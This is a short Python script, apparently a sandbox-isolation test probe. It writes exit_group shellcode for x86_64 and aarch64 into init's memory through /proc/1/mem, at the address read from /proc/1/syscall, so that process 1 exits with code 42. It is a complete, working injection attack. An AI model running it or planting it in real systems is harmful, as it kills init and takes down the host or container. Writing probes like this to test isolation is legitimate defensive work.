# Takes process 1 over by its memory: the engine would tell the exit code that this chooses.
import platform, time

CODE = 42
EXIT = {
    'x86_64': b'\xbf' + CODE.to_bytes(4, 'little') + b'\xb8\xe7\x00\x00\x00\x0f\x05',
    'aarch64': (0xD2800000 | CODE << 5).to_bytes(4, 'little') + (0xD2800BC8).to_bytes(4, 'little') + b'\x01\x00\x00\xd4',
}
print('ATTACKED', flush=True)
try:
    place = int(open('/proc/1/syscall').read().split()[-1], 16)
    with open('/proc/1/mem', 'r+b', 0) as memory:
        memory.seek(place)
        memory.write(EXIT[platform.machine()])
    time.sleep(5)
except OSError as refused:
    print(refused)
